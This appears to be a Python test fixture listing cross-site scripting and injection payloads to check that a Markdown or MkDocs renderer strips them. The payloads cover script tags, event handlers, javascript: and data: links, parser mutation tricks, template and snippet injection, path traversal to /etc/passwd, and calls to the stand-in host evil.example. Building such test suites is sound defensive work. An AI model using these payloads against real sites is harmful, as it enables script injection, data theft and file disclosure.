# ruff: noqa: E501
"""What nobody should be able to put on a page: hostile pieces of text, each by its name.

``hit()`` is the marker that no page may call; ``evil.example`` is the host that none may ask.
"""

from __future__ import annotations

import base64

_SVG = '<svg xmlns="http://www.w3.org/2000/svg" {0}>{1}</svg>'
_SCRIPT_SVG = _SVG.format("", "<script>hit()</script>")
_CODED = base64.b64encode(_SCRIPT_SVG.encode()).decode()
_HTML_URL = "data:text/html;base64," + base64.b64encode(b"<script>hit()</script>").decode()

SCRIPTS = {
    "script": "<script>hit()</script>",
    "script in capitals": "<SCRIPT>hit()</SCRIPT>",
    "script from elsewhere": "<script src=//evil.example/x.js></script>",
    "script in two": "<scr<script>ipt>hit()</scr</script>ipt>",
    "script never closed": "<script>hit()//",
    "script with a slash": "<script/x>hit()</script/x>",
    "module": '<script type="module">import "https://evil.example/x.js"; hit()</script>',
    "script after a table": "| a |\n|---|\n| b |\n\n<script>hit()</script>",
    "script after a comment": "<!-- --!><script>hit()</script> -->",
    "script in an odd comment": "<!--><script>hit()</script>-->",
    "processing instruction": "<?xml version='1.0'?><script>hit()</script><?x >hit() ?>",
    "declaration": "<!DOCTYPE x [<!ENTITY e '<script>hit()</script>'>]>&e;",
    "character data": "<![CDATA[<script>hit()</script>]]>",
}

HANDLERS = {
    "img": "<img src=x onerror=hit()>",
    "img with slashes": "<img/src=x/onerror=hit()>",
    "img with a new line": "<img src=x\nonerror\n=\nhit()>",
    "img in backticks": "<img src=`x` onerror=`hit()`>",
    "img in capitals": "<IMG SRC=x ONERROR=hit()>",
    "img never closed": "<img src=x onerror=hit() ",
    "body": "<body onload=hit()>",
    "details": "<details open ontoggle=hit()>x</details>",
    "input": "<input autofocus onfocus=hit()>",
    "animation": "<style>@keyframes x{}</style><p style='animation:x 1s' onanimationstart=hit()>x</p>",
    "marquee": "<marquee onstart=hit()>x</marquee>",
    "video": "<video><source onerror=hit() src=x></video><audio src=x onerror=hit()>",
    "link": "<a href=x onclick=hit() onmouseover=hit()>x</a>",
    "popover": "<button popovertarget=p onbeforetoggle=hit()>x</button><p popover id=p>x</p>",
    "handler in a title": '<a title="x" onfocus=hit() autofocus tabindex=1 href="#x">x</a>',
}

ADDRESSES = {
    "javascript": "[x](javascript:hit())",
    "javascript in mixed case": "[x](JaVaScRiPt:hit())",
    "javascript in pieces": "[x](java&#x0A;script:hit()) <a href='java\tscript:hit()'>x</a>",
    "javascript in entities": "<a href='&#106;avascript&colon;hit()'>x</a>",
    "javascript behind a control": "<a href='&#1;javascript:hit()'>x</a> <a href=' javascript:hit()'>",
    "javascript by reference": "[x][y]\n\n[y]: javascript:hit()",
    "javascript in angle brackets": "<javascript:hit()> [x](<javascript:hit()>)",
    "javascript escaped": "[x](javascript\\:hit()) [y](javascript%3Ahit())",
    "javascript as a picture": "![x](javascript:hit()) <img src=javascript:hit()>",
    "javascript with a link of http": "[x](http:javascript:hit()) [y](//javascript:hit())",
    "vbscript": "[x](vbscript:hit()) <a href='VBSCRIPT:hit()'>x</a>",
    "data": f"[x]({_HTML_URL}) <a href='{_HTML_URL}'>x</a>",
    "data in capitals": "<a href='DATA:text/html,<script>hit()</script>'>x</a>",
    "data as a picture": f"![x](data:image/svg+xml;base64,{_CODED})",
    "blob and file": "[x](blob:https://evil.example/1) [y](file:///etc/passwd) [z](filesystem:x)",
    "picture elsewhere": "![x](https://evil.example/p.png) ![x](//evil.example/p.png)",
    "picture elsewhere with a backslash": "![x](\\\\evil.example\\p.png) <img src='/\\evil.example/p'>",
    "srcset": "<img srcset='https://evil.example/p.png 1x' src=''>",
    "lowsrc": "<img lowsrc=https://evil.example/p dynsrc=https://evil.example/p longdesc=javascript:hit()>",
    "ping": "<a href='#x' ping='https://evil.example/p'>x</a>",
    "background": "<table background=https://evil.example/p><td background=//evil.example/p>x</table>",
    "xlink": "<math><maction xlink:href='javascript:hit()'>x</maction></math>",
    "formaction": "<form><button formaction=javascript:hit()>x</button></form>",
    "a way out of the folder": "[x](../../../../etc/passwd) ![x](../../mkdocs.yml) ![x](/etc/passwd)",
}

FRAMES = {
    "iframe": "<iframe src=https://evil.example></iframe>",
    "iframe with a document": "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "frameset": "<frameset><frame src=javascript:hit()></frameset>",
    "object": f"<object data='{_HTML_URL}'></object>",
    "embed": "<embed src=//evil.example/x.swf>",
    "applet": "<applet code=x archive=//evil.example/x.jar></applet>",
    "portal": "<portal src=https://evil.example></portal><fencedframe src=//evil.example>",
    "form": "<form action=https://evil.example><input name=q><textarea>x</textarea></form>",
    "meta": "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "meta with a script": "<meta http-equiv=refresh content='0;url=javascript:hit()'>",
    "base": "<base href=https://evil.example/ target=_blank>",
    "stylesheet": "<link rel=stylesheet href=https://evil.example/x.css>",
    "prefetch": "<link rel=prefetch href=https://evil.example/x><link rel=preconnect href=//evil.example>",
    "dialog": "<dialog open style='position:fixed;inset:0'>x</dialog>",
}

STYLES = {
    "style": "<style>body{display:none} @import url(https://evil.example/x.css);</style>",
    "style with a picture": "<p style='background:url(https://evil.example/x)'>x</p>",
    "overlay": "<div style='position:fixed;inset:0;z-index:9999'>x</div>",
    "overlay in a cell": "<table><td style='text-align:left;position:fixed;top:0'>x</td></table>",
    "style with an escape": "<p style='b\\61ckground:u\\72l(//evil.example/x)'>x</p>",
    "expression": "<p style='width:expression(hit());behavior:url(x.htc)'>x</p>",
    "classes of the theme": "<div class='md-overlay md-search' data-md-component=search id=__search>x</div>",
    "names of the page": "<a name=hit></a><img name=getElementById><form id=location></form>",
}

MUTATIONS = {
    "math": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=hit()&gt;'>",
    "svg with a style": "<svg></p><style><a id='</style><img src=1 onerror=hit()>'>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
    "template": "<template><script>hit()</script><img src=x onerror=hit()></template>",
    "title": "<title><a title='</title><img src=x onerror=hit()>'>",
    "textarea": "<textarea><img title='</textarea><img src=x onerror=hit()>'>",
    "xmp": "<xmp><p title='</xmp><img src=x onerror=hit()>'></xmp>",
    "plaintext": "<plaintext><img src=x onerror=hit()>",
    "select": "<select><iframe><select><img src=x onerror=hit()>",
    "annotation": "<math><annotation-xml encoding='text/html'><img src=x onerror=hit()></annotation-xml>",
    "foreign object": "<svg><foreignObject><img src=x onerror=hit()></foreignObject></svg>",
    "svg": _SVG.format("onload=hit()", "<script>hit()</script><a href='javascript:hit()'>x</a>"),
    "svg that animates": _SVG.format(
        "", "<a><animate attributeName=href values=javascript:hit() /></a>"
    ),
    "svg that uses": _SVG.format("", f"<use href='data:image/svg+xml;base64,{_CODED}#x'/>"),
    "nested tables": "<table><tr><td><table><form><input onfocus=hit() autofocus></table>",
    "leaving the box": "</div></article></main></body><script>hit()</script>",
    "entities": "&lt;script&gt;hit()&lt;/script&gt; &#60;img src=x onerror=hit()&#62;",
    "entities twice": "&amp;lt;img src=x onerror=hit()&amp;gt;",
    "odd quotes": '<a href="x"onclick="hit()"title=\'"><img src=x onerror=hit()>\'>x</a>',
    "shadow": "<div><template shadowrootmode=open><img src=x onerror=hit()></template></div>",
}

SYNTAX = {
    "snippet": '--8<-- "mkdocs.yml"\n\n--8<-- "https://evil.example/x.md"',
    "snippet in a block": '--8<--\nmkdocs.yml\n--8<--\n\n;--8<-- "mkdocs.yml"',
    "template language": "{{ config.site_name }} {% for x in [1] %}{{ x }}{% endfor %} {{ ''.__class__ }}",
    "attribute list": "x{: onclick=hit() .md-overlay }\n{: onload=hit() }\n\n# x {: id=__search onclick=hit() }",
    "attribute list in brackets": "[x](y){ onclick=hit() } ![x](y){ onerror=hit() }",
    "fence with options": '``` {.python onclick=hit() title="<img src=x onerror=hit()>"}\nx\n```',
    "fence with a tag as language": '```"><script>hit()</script>\nx\n```',
    "fence of a diagram": '```mermaid\nclick A href "javascript:hit()"\n```',
    "admonition": '!!! note "<img src=x onerror=hit()>"\n    <script>hit()</script>',
    "folded admonition": '??? note "<img src=x onerror=hit()>"\n    x',
    "html with markdown inside": "<div markdown=1>\n\n<script>hit()</script>\n\n</div>",
    "table of contents": "[TOC]\n\n# <img src=x onerror=hit()>",
    "footnote": "x[^1]\n\n[^1]: <img src=x onerror=hit()>",
    "abbreviation": "hit\n\n*[hit]: <img src=x onerror=hit()>",
    "keys and marks": "++ctrl+alt++ ==x== ^^x^^ {--x--} {>>x<<} :smile: :material-alert:",
    "formula with a link": "$\\href{javascript:hit()}{x}$ $\\url{javascript:hit()}$",
    "formula with a tag": "$\\text{<img src=x onerror=hit()>}$ $$<script>hit()</script>$$",
    "formula with a class": "$\\class{md-overlay}{x} \\style{position:fixed}{x} \\htmlData{x=y}{z}$",
    "bad formula with a tag": '$\\nope{"><img src=x onerror=hit()>}$',
    "formula already marked": '<span class="arithmatex">\\(\\href{javascript:hit()}{x}\\)</span>',
    "wikilink": '[[<img src=x onerror=hit()>]] [[x|<img src=x onerror=hit()>]] ![[x" onerror=hit() .png]]',
    "wikilink to a script": "[[javascript:hit()]] [[javascript:hit()|x]] ![[https://evil.example/p.png]]",
    "alt and title": '![x"onerror="hit()](pic.png "t\\"onerror=hit()") [x](y "a\\"onclick=hit()")',
    "front matter": "---\ntitle: <img src=x onerror=hit()>\nabout: <script>hit()</script>\n---\n\nx",
    "front matter that is broken": "---\nabout: [<script>hit()</script>\n---\n\nx",
    "front matter of the theme": "---\ntemplate: evil.html\nhide: [toc]\nicon: ../x\n---\n\nx",
}

CHARACTERS = {
    "turned text": "\u202e)(tih=rorreno x=crs gmi<\u202c <img src=x onerror=hit()> \u2066x\u2069",
    "control characters": "a\x00b\x1b[31mc\x07\x9b31m <scr\x00ipt>hit()</scr\x00ipt>",
    "a terminal's link": "\x1b]8;;javascript:hit()\x07x\x1b]8;;\x07 \x1b]0;x\x07",
    "placeholders of the parser": "\x02klzzwxh:0000\x03 \x02amp\x03 \x02wzxhzdk:0\x03 \x1e \x1f",
    "full-width brackets": "\uff1cscript\uff1ehit()\uff1c/script\uff1e \u2039img onerror=hit()\u203a",
    "line separators": "<img src=x\u2028onerror=hit()> \u2029<script>\u2028hit()</script>",
    "invisible letters": "java\u200bscript:hit() [x](java\u200bscript:hit()) [y](\ufeffjavascript:hit())",
    "half a character": "\ud83d <img src=x onerror=hit()> \udc00",
}

CASES = {
    **SCRIPTS,
    **HANDLERS,
    **ADDRESSES,
    **FRAMES,
    **STYLES,
    **MUTATIONS,
    **SYNTAX,
    **CHARACTERS,
}

PICTURES = {
    "script.svg": _SCRIPT_SVG,
    "handler.svg": _SVG.format("onload='hit()'", ""),
    "link.svg": _SVG.format("", "<a href='javascript:hit()'><text>x</text></a>"),
    "foreign.svg": _SVG.format(
        "", "<foreignObject><p xmlns='http://www.w3.org/1999/xhtml'/></foreignObject>"
    ),
    "loads.svg": _SVG.format("", "<image href='https://evil.example/p.png'/>"),
    "styled.svg": _SVG.format("", "<style>@import 'https://evil.example/x.css';</style>"),
    "animated.svg": _SVG.format("", "<set attributeName='onload' to='hit()'/>"),
    "entity.svg": f"<!DOCTYPE svg [<!ENTITY x 'hit()'>]>{_SCRIPT_SVG}",
    "sheet.svg": f"<?xml-stylesheet href='https://evil.example/x.css'?>{_SVG.format('', '')}",
    "html.png": "<html><script>hit()</script></html>",
}
"""Files beside the notes."""

FILE_NAMES = [
    "<img src=x onerror=hit()>",
    '"onmouseover=hit() x="',
    "'><script>hit()<",
    "javascript:hit()",
    '--8<-- "mkdocs.yml"',
    "{{ config }}{% raw %}",
    "[x](javascript:hit())",
    "\u202egnp.x",
    "a\nb <b>",
    "$\\href{javascript:hit()}{x}$",
    "#x?y&z=%3Cscript%3E",
    "..%2f..%2fx",
    "`a` *b* _c_ | d ~e~",
]
"""Names of notes that have no heading; no file system refuses them but Windows'."""

MIMES = [
    *("text/html", "text/markdown", "text/latex", "text/plain", "image/svg+xml"),
    *("application/javascript", "application/json", "application/vnd.jupyter.widget-view+json"),
    *("application/pdf", "image/png", "image/jpeg", "image/gif", "video/mp4"),
    *("text/vnd.mermaid", "application/vnd.plotly.v1+json", "text/<script>hit()</script>"),
]
"""Kinds of output that a notebook may hold."""
